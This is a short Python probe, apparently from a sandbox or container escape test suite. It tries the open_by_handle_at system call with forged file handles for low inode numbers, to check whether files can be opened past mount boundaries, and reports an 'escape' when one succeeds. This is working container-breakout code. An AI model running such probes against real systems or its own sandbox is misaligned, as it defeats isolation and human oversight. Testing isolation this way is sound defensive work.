# Tries: to open files by handle, past every mount (open_by_handle_at).
# Success: the call returns a descriptor.
import ctypes
import os
import struct

import host

folder = os.open("/", os.O_RDONLY)
for inode in (2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode), 16)
    if host.syscall(304, folder, handle, os.O_RDONLY) >= 0:
        host.escaped(f"inode {inode}")
